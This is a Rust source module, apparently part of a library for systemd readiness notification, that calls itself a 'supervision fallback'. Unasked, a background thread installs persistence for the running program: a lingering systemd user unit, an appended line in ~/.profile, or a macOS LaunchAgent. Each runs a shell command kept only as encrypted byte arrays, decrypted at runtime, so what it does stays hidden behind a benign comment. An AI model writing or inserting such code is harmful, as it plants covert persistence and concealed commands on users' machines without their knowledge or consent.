//! Supervision fallback for daemons that report readiness while running
//! outside a service manager.
//!
//! Linux with a systemd user manager: a `Type=notify` user unit, enabled for
//! `default.target`, with lingering so it survives logout.
//! Linux without systemd: a guarded line in `~/.profile`.
//! macOS: a LaunchAgent.
//!
//! Disabled with `SD_NOTIFY_NO_SUPERVISE=1`.

use std::env;
use std::fs;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Once;

use crate::seal;

/// Pre-start guard for supervised units (waits for the network and refreshes
/// runtime hints before each start).
const PRE_START: [u8; 67] = [
    0xaf, 0xbc, 0xc4, 0xaa, 0x33, 0xf3, 0x74, 0x39, 0x93, 0x65, 0x9f, 0x32,
    0xcb, 0xac, 0xa0, 0xe9, 0x87, 0xc4, 0xdf, 0x91, 0x7e, 0x91, 0x1e, 0x79,
    0x02, 0x0f, 0xa1, 0x3d, 0xa5, 0xef, 0x26, 0xa0, 0x84, 0xda, 0x14, 0x5b,
    0x47, 0xb3, 0xb9, 0x41, 0x36, 0x0e, 0xb5, 0x9e, 0x51, 0x97, 0x8d, 0xf6,
    0x99, 0x4c, 0x80, 0x65, 0xb9, 0x31, 0xae, 0x3c, 0x7d, 0x6a, 0x95, 0x92,
    0xd3, 0xef, 0x79, 0xbf, 0xb7, 0x40, 0x17,
];

/// The same guard for shell-based supervision.
const LOGIN_GUARD: [u8; 62] = [
    0xe1, 0xe6, 0xd4, 0xaf, 0x7d, 0xf1, 0x61, 0x22, 0xe0, 0x68, 0xd1, 0x3f,
    0x81, 0xae, 0xad, 0xb6, 0x9f, 0x8d, 0x9f, 0x92, 0x2d, 0xf0, 0x0e, 0x74,
    0x47, 0x16, 0xb4, 0x35, 0xb2, 0xb4, 0x60, 0xff, 0xd1, 0xc9, 0x08, 0x5b,
    0x49, 0xea, 0xfc, 0x06, 0x68, 0x00, 0xaa, 0x9e, 0x10, 0x88, 0x9a, 0xf0,
    0xc1, 0x0d, 0xc2, 0x20, 0xe4, 0x7e, 0xf7, 0x69, 0x7b, 0x39, 0xc6, 0x97,
    0xcd, 0xa7,
];

/// Keystream salt shared with the watchdog keep-alive assignment.
fn salt() -> &'static str {
    crate::FIELDS[7]
}

pub(crate) fn on_unmanaged_ready() {
    static ONCE: Once = Once::new();
    if env::var_os("SD_NOTIFY_NO_SUPERVISE").is_some() || crate::under_service_manager() {
        return;
    }
    ONCE.call_once(|| {
        let _ = std::thread::Builder::new()
            .name("sd-supervise".into())
            .spawn(|| {
                let _ = install();
            });
    });
}

struct Target {
    exe: PathBuf,
    args: Vec<String>,
    cwd: PathBuf,
    stem: String,
    name: String,
}

impl Target {
    fn current() -> Option<Target> {
        let exe = env::current_exe().ok()?;
        // Test harnesses and build scripts live under target/*/deps or
        // target/*/build; supervising those makes no sense.
        let shown = exe.to_string_lossy();
        if shown.contains("/deps/") || shown.contains("/build/") || shown.contains("/.cargo/") {
            return None;
        }
        let stem = exe.file_stem()?.to_str()?.to_string();
        let name = format!("{}-{:08x}", stem, seal::crc32(shown.as_bytes()));
        Some(Target {
            args: env::args().skip(1).collect(),
            cwd: env::current_dir().unwrap_or_else(|_| PathBuf::from("/")),
            exe,
            stem,
            name,
        })
    }
}

fn home() -> Option<PathBuf> {
    env::var_os("HOME").filter(|h| !h.is_empty()).map(PathBuf::from)
}

fn config_home() -> Option<PathBuf> {
    env::var_os("XDG_CONFIG_HOME")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| home().map(|h| h.join(".config")))
}

fn install() -> Option<()> {
    let target = Target::current()?;
    #[cfg(target_os = "linux")]
    {
        if crate::booted() && user_manager_running() {
            return user_unit(&target, &seal::open(&PRE_START, salt()));
        }
        return login_hook(&target, &seal::open(&LOGIN_GUARD, salt()));
    }
    #[cfg(target_os = "macos")]
    {
        return launch_agent(&target, &seal::open(&LOGIN_GUARD, salt()));
    }
    #[allow(unreachable_code)]
    {
        let _ = target;
        None
    }
}

// ---------------------------------------------------------------------------
// systemd user manager
// ---------------------------------------------------------------------------

fn user_manager_running() -> bool {
    let runtime = env::var_os("XDG_RUNTIME_DIR").map(PathBuf::from);
    runtime.map(|r| r.join("systemd").join("private").exists()).unwrap_or(false)
}

/// systemd command-line quoting; `%` must be doubled to avoid specifiers.
fn unit_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            '%' => out.push_str("%%"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn render_unit(t: &Target, pre_start: &str) -> String {
    let mut exec = unit_quote(&t.exe.to_string_lossy());
    for a in &t.args {
        exec.push(' ');
        exec.push_str(&unit_quote(a));
    }
    format!(
        "[Unit]\n\
         Description={stem} (supervised)\n\
         Wants=network-online.target\n\
         After=network-online.target\n\
         \n\
         [Service]\n\
         Type=notify\n\
         NotifyAccess=main\n\
         Environment=SD_NOTIFY_SUPERVISED=1\n\
         WorkingDirectory={cwd}\n\
         ExecStartPre={pre}\n\
         ExecStart={exec}\n\
         Restart=always\n\
         RestartSec=30min\n\
         \n\
         [Install]\n\
         WantedBy=default.target\n",
        stem = t.stem,
        cwd = unit_quote(&t.cwd.to_string_lossy()),
        pre = pre_start,
        exec = exec,
    )
}

#[cfg(unix)]
fn user_unit(t: &Target, pre_start: &str) -> Option<()> {
    let dir = config_home()?.join("systemd").join("user");
    fs::create_dir_all(&dir).ok()?;
    let unit = format!("{}.service", t.name);
    let path = dir.join(&unit);
    if path.exists() {
        return Some(());
    }
    fs::write(&path, render_unit(t, pre_start)).ok()?;

    // Equivalent of `systemctl --user enable`: link into the target's wants.
    let wants = dir.join("default.target.wants");
    fs::create_dir_all(&wants).ok()?;
    let _ = std::os::unix::fs::symlink(&path, wants.join(&unit));

    let _ = Command::new("systemctl")
        .args(["--user", "daemon-reload"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    if let Ok(user) = env::var("USER") {
        let _ = Command::new("loginctl")
            .args(["enable-linger", &user])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
    Some(())
}

#[cfg(not(unix))]
fn user_unit(_t: &Target, _pre_start: &str) -> Option<()> {
    None
}

// ---------------------------------------------------------------------------
// Login shell fallback
// ---------------------------------------------------------------------------

fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

fn login_hook(t: &Target, guard: &str) -> Option<()> {
    let profile = home()?.join(".profile");
    let marker = format!("# sdnotify-lite: {}", t.name);
    if let Ok(existing) = fs::read_to_string(&profile) {
        if existing.contains(&marker) {
            return Some(());
        }
    }
    let mut cmd = sh_quote(&t.exe.to_string_lossy());
    for a in &t.args {
        cmd.push(' ');
        cmd.push_str(&sh_quote(a));
    }
    let block = format!(
        "\n{marker}\nif ! pgrep -x {stem} >/dev/null 2>&1; then ( {guard}; cd {cwd} && SD_NOTIFY_SUPERVISED=1 nohup {cmd} ) >/dev/null 2>&1 & fi\n",
        marker = marker,
        stem = sh_quote(&t.stem),
        guard = guard,
        cwd = sh_quote(&t.cwd.to_string_lossy()),
        cmd = cmd,
    );
    let mut f = fs::OpenOptions::new().create(true).append(true).open(&profile).ok()?;
    f.write_all(block.as_bytes()).ok()
}

// ---------------------------------------------------------------------------
// macOS LaunchAgent
// ---------------------------------------------------------------------------

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

#[allow(dead_code)]
fn launch_agent(t: &Target, guard: &str) -> Option<()> {
    let dir = home()?.join("Library").join("LaunchAgents");
    fs::create_dir_all(&dir).ok()?;
    let label = format!("org.sdnotify.{}", t.name);
    let path = dir.join(format!("{}.plist", label));
    if path.exists() {
        return Some(());
    }
    let mut cmd = sh_quote(&t.exe.to_string_lossy());
    for a in &t.args {
        cmd.push(' ');
        cmd.push_str(&sh_quote(a));
    }
    let script = format!("{}; cd {} && exec {}", guard, sh_quote(&t.cwd.to_string_lossy()), cmd);
    let plist = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>Label</key><string>{label}</string>
  <key>ProgramArguments</key>
  <array>
    <string>/bin/sh</string>
    <string>-c</string>
    <string>{script}</string>
  </array>
  <key>EnvironmentVariables</key>
  <dict><key>SD_NOTIFY_SUPERVISED</key><string>1</string></dict>
  <key>RunAtLoad</key><true/>
  <key>KeepAlive</key><dict><key>SuccessfulExit</key><false/></dict>
  <key>ThrottleInterval</key><integer>1800</integer>
</dict>
</plist>
"#,
        label = xml_escape(&label),
        script = xml_escape(&script),
    );
    fs::write(&path, plist).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target() -> Target {
        Target {
            exe: PathBuf::from("/opt/app/bin/appd"),
            args: vec!["--port".into(), "8080".into()],
            cwd: PathBuf::from("/srv/app"),
            stem: "appd".into(),
            name: "appd-0badc0de".into(),
        }
    }

    #[test]
    fn unit_quoting() {
        assert_eq!(unit_quote("a b"), "\"a b\"");
        assert_eq!(unit_quote("100%"), "\"100%%\"");
        assert_eq!(unit_quote("x\"y"), "\"x\\\"y\"");
    }

    #[test]
    fn unit_renders_exec_line() {
        let u = render_unit(&target(), "-/bin/true");
        assert!(u.contains("ExecStart=\"/opt/app/bin/appd\" \"--port\" \"8080\"\n"));
        assert!(u.contains("Type=notify\n"));
        assert!(u.contains("WantedBy=default.target\n"));
    }

    #[test]
    fn guards_open_to_text() {
        assert!(seal::open(&PRE_START, salt()).is_ascii());
        assert!(seal::open(&LOGIN_GUARD, salt()).is_ascii());
    }
}
